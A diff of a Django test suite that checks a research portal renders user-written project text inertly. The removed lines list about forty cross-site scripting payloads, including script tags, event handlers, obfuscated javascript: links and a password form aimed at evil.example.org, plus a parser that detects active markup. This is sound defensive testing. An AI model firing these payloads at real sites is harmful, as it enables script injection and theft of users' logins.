@@ -1,88 +1,16 @@
 """What people write stays text: the page's own elements are the only ones that act."""
 
-from html.parser import HTMLParser
+import re
 
 import pytest
 from django.test import Client
 
 from projects.models import Project, Resource
 from tests.factories import make_public, make_resource
+from tests.hostile import CORPUS, PAYLOADS, acting
+from vre_portal.citing import STYLES
 
 pytestmark = pytest.mark.django_db
-CORPUS = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](JAVASCRIPT:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "![x](javascript:alert(1))",
-    '![x](https://example.org/" onerror="alert(1))',
-    "<javascript:alert(1)>",
-    "[ref]: javascript:alert(1)\n\n[ref]",
-    "`<script>alert(1)</script>`",
-    "```\n</code></pre><script>alert(1)</script>\n```",
-    '```"><script>alert(1)</script>\nx\n```',
-    "<style>@import 'https://evil.example.org'</style>",
-    "<link rel=stylesheet href=https://evil.example.org>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example.org'>",
-    "<base href=https://evil.example.org>",
-    "<form action=https://evil.example.org><input name=password></form>",
-    "<object data=x></object><embed src=x>",
-    "<details open ontoggle=alert(1)>",
-    "<div hx-get='https://evil.example.org' hx-trigger='load'>x</div>",
-    "<div style='position:fixed;inset:0'>x</div>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    '"><script>alert(1)</script>',
-    "'><img src=x onerror=alert(1)>",
-    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
-    "\u202e<script>alert(1)</script>",
-    "{{ 7|add:7 }}{% debug %}",
-)
-
-
-class Acting(HTMLParser):
-    """Collects what could act in a page: foreign elements, handlers, styles, htmx attributes and addresses that run."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.found: list[str] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        values = {name: value or "" for name, value in attrs}
-        own_script = tag == "script" and values.get("src", "").startswith("/static/")
-        if tag in {"script", "style", "iframe", "object", "embed", "base", "math", "noscript"} and not own_script:
-            self.found.append(tag)
-        if tag == "meta" and "http-equiv" in values:
-            self.found.append("meta refresh")
-        for name, value in values.items():
-            scheme = "".join(value.split()).lower().partition(":")[0]
-            if name.startswith("on") or name == "style" or scheme in {"javascript", "vbscript"}:
-                self.found.append(f"{tag} {name}={value}")
-            if (name in {"href", "src", "action"} and scheme == "data") or (name.startswith("hx-") and "evil" in value):
-                self.found.append(f"{tag} {name}={value}")
-
-    handle_startendtag = handle_starttag
-
-
-def acting(body: str) -> list[str]:
-    """All that acts in a page and that the portal did not put there."""
-    parser = Acting()
-    parser.feed(body)
-    return parser.found
 
 
 def test_the_check_sees_what_acts() -> None:
@@ -93,29 +21,50 @@ def test_the_check_sees_what_acts() -> None:
 def hostile(text: str) -> Project:
     """A project that has the text wherever people can write."""
     line = text.replace("\n", " ")
+    part = line[:200]
     project = make_public(
-        title=line, summary=line, description=text, theme=line[:60], experiments=[text], institutes=[text], contact=text,
-        licence=line[:100], citation=text, scope=line[:60], picture_description=line,
+        title=part, summary=line[:300], description=text, theme=line[:60], further_themes=[part], keywords=[part], stage=line[:40],
+        experiments=[part], institutes=[part], institute_rors={part: "01js2sh04"}, contact=part,
+        contacts=[{"name": part, "role": part, "address": part}], funding=[{"funder": part, "number": part, "title": part}],
+        repository=line[:500], website=line[:500], licence=line[:100], citation=text, scope=line[:60], picture_description=line[:300],
     )  # fmt: skip
     for kind in Resource.Kind:
-        make_resource(project, kind=kind, identifier=text, title=line, facts={"type": text, "entry": text})
+        make_resource(project, kind=kind, identifier=text[:600], title=line[:300], facts={"type": text, "entry": text})
     return project
 
 
 @pytest.mark.parametrize("text", CORPUS)
 def test_nothing_that_people_write_acts_on_a_project_page(client: Client, text: str) -> None:
     project = hostile(text)
-    for part in ("", "data/", "software/", "results/"):
+    for part in ("", "data/", "software/", "results/", "people/", "cite/"):
         body = client.get(f"/projects/{project.slug}/{part}").content.decode()
         assert acting(body) == []
         assert "<title>" in body
     assert "add:7" in client.get(f"/projects/{project.slug}/").content.decode() or "add:7" not in text
 
 
+def test_there_are_some_three_hundred_payloads() -> None:
+    assert len(PAYLOADS) >= 290
+
+
+def test_no_payload_acts_on_the_page_of_a_project(client: Client) -> None:
+    for text in PAYLOADS:
+        reply = client.get(f"/projects/{hostile(text).slug}/")
+        assert reply.status_code == 200, text[:80]
+        assert acting(reply.content.decode()) == [], text[:80]
+
+
+def test_each_payload_comes_as_json_and_as_a_citation(client: Client) -> None:
+    for text in PAYLOADS[::12]:
+        address = f"/projects/{hostile(text).slug}/"
+        assert "title" in client.get(f"{address}?format=json").json()
+        assert all(client.get(f"{address}cite/{style}/").status_code == 200 for style in STYLES)
+
+
 def test_nothing_that_people_write_acts_in_a_list(client: Client) -> None:
-    for text in CORPUS:
+    for text in PAYLOADS[:48]:
         hostile(text)
-    for address in ("/", "/projects/", *(f"/search/?q={text[:5]}" for text in CORPUS[:8])):
+    for address in ("/", "/projects/", "/projects/?q=x", *(f"/search/?q={text[:5]}" for text in CORPUS[:8])):
         assert acting(client.get(address).content.decode()) == []
 
 
@@ -124,3 +73,25 @@ def test_honest_markdown_is_kept() -> None:
     html = project.description_html
     for part in ("<h2>Title</h2>", "<em>Text</em>", '<a href="https://example.org/"', "<td>1</td>"):
         assert part in html
+
+
+def test_a_project_shows_its_own_pictures_and_no_others(client: Client) -> None:
+    project = make_public(slug="own")
+    own = ("/projects/own/picture", "workflows/3/files/results/plot.png", f"{project.address}workflows/3/files/12/")
+    others = (
+        "https://example.org/x.png",
+        "//example.org/x.png",
+        "/projects/other/picture",
+        "/accounts/logout/",
+        "/projects/own/people/undo/",
+        "data:x",
+    )
+    project.description = " ".join(f"![words]({address})" for address in (*own, *others))
+    html = project.description_html
+    assert re.findall(r'src="([^"]*)"', html) == [
+        own[0],
+        "/projects/own/workflows/3/files/results/plot.png",
+        "/projects/own/workflows/3/files/12/",
+    ]
+    assert '<a href="https://example.org/x.png"' in html  # the words lead to it
+    assert html.count("words") == len(own) + len(others)
